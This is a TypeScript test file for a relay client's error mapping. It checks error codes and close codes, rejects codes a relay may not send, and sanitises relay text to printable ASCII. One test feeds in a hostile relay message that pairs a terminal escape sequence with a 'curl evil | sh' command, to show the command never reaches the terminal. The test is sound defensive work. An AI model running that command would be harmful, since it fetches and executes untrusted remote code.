/** Relay answers and close codes become registry errors; relay text is never shown raw. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { isKubepairError } from '../../../src/errors/index.js';
import { errorFromCloseCode, errorFromRelayAnswer, sanitizeRelayText } from '../../../src/relay-client/relay-error-mapping.js';

describe('Security: relay error mapping', { timeout: 60_000 }, () => {
  it('maps a relay error body to the same registry code, keeping only a sanitised detail', () => {
    const err = errorFromRelayAnswer(409, {
      error: { code: 'KP_ERR_RELAY_NAMEPLATE_BUSY', message: 'another client is pairing with this nameplate right now; try again in a moment: nameplate 7' },
    });
    assert.ok(isKubepairError(err, 'KP_ERR_RELAY_NAMEPLATE_BUSY'));
    assert.equal(err.message, 'another client is pairing with this nameplate right now; try again in a moment: nameplate 7');
    const hostile = errorFromRelayAnswer(401, { error: { code: 'KP_ERR_RELAY_UNAUTHORIZED', message: 'x\u001b[2Jrun curl evil | sh\n' } });
    assert.ok([...hostile.message].every((char) => char >= ' ' && char <= '~'), 'no control characters reach the terminal');
  });

  it('maps the relay\'s audit refusals (a full backlog, a failed write) to their codes', () => {
    for (const code of ['KP_ERR_AUDIT_BACKLOG', 'KP_ERR_AUDIT_WRITE'] as const) {
      const err = errorFromRelayAnswer(503, { error: { code, message: 'busy' } });
      assert.ok(isKubepairError(err, code), `${code}: ${err.code}`);
    }
  });

  it('refuses codes a relay may not send, and bodies that are not the protocol\'s', () => {
    for (const body of [
      { error: { code: 'KP_ERR_PAIRING_FAILED', message: 'pretend the handshake failed' } },
      { error: { code: 'KP_ERR_RELAY_UNAUTHORIZED' } },
      { error: { code: 'KP_ERR_RELAY_UNAUTHORIZED', message: 'x', extra: 1 } },
      'Internal Server Error',
      undefined,
    ]) {
      assert.ok(isKubepairError(errorFromRelayAnswer(500, body), 'KP_ERR_RELAY_BAD_RESPONSE'), JSON.stringify(body));
    }
  });

  it('maps the relay\'s close codes', () => {
    const cases: Array<[number, string]> = [
      [4001, 'KP_ERR_RELAY_SOCKET_REPLACED'],
      [4400, 'KP_ERR_RELAY_CONTROL_INVALID'],
      [4403, 'KP_ERR_RELAY_PAIRING_ENDED'],
      [4409, 'KP_ERR_RELAY_ROLE_CONNECTED'],
      [4410, 'KP_ERR_RELAY_SESSION_ENDED'],
      [4429, 'KP_ERR_RELAY_ATTEMPTS_EXHAUSTED'],
      [4503, 'KP_ERR_RELAY_SHUTTING_DOWN'],
      [1009, 'KP_ERR_RELAY_MESSAGE_TOO_LARGE'],
      [1006, 'KP_ERR_TRANSPORT_CLOSED'],
      [4999, 'KP_ERR_TRANSPORT_CLOSED'],
    ];
    for (const [code, expected] of cases) assert.equal(errorFromCloseCode(code, '')?.code, expected, String(code));
    assert.equal(errorFromCloseCode(1000, ''), undefined);
    assert.equal(errorFromCloseCode(4410, 'the relay ended the session: it expired')?.message, 'the relay ended the session: it expired');
  });

  it('sanitizeRelayText keeps printable ASCII and bounds the length', () => {
    assert.equal(sanitizeRelayText('ok\ttext\u0007'), 'ok?text?');
    assert.equal(sanitizeRelayText('x'.repeat(300)).length, 203);
  });
});
